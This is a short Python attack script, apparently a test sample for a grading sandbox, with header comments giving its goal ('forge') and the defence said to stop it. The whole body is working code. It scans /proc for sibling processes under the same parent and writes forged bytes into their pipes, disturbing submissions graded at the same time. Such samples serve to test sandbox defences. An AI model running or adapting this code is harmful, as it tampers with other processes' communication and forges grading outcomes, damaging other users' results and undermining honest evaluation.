# tries: to speak for those who are graded at the same time: bytes into the pipes of other processes
# fails: other children are not there (or belong to another user)
# goal: forge
# stopped from: T1
# undefended: harm: to those who are graded at the same time
# touches: one function
import os
import time


def attack(*arguments, **keywords):
    until, mine = time.monotonic() + 0.7, links("self")
    while time.monotonic() < until:
        for process in filter(str.isdigit, os.listdir("/proc")):
            if cousin(process):
                for descriptor, pipe in links(process).items():
                    if pipe not in mine.values() and pipe.startswith("pipe:"):
                        disturb(f"/proc/{process}/fd/{descriptor}")
    raise RuntimeError("made noise where we could")


def cousin(process):
    """Only children of the same parent: no other program of this machine is disturbed."""
    try:
        with open(f"/proc/{process}/stat") as file:
            parent = int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        return False
    return parent == os.getppid() and int(process) != os.getpid()


def links(process):
    try:
        folder = f"/proc/{process}/fd"
        return {name: os.readlink(f"{folder}/{name}") for name in os.listdir(folder)}
    except OSError:
        return {}


def disturb(path):
    try:
        descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(descriptor, b"\0\0\0\1T")
        os.close(descriptor)
    except OSError:
        pass
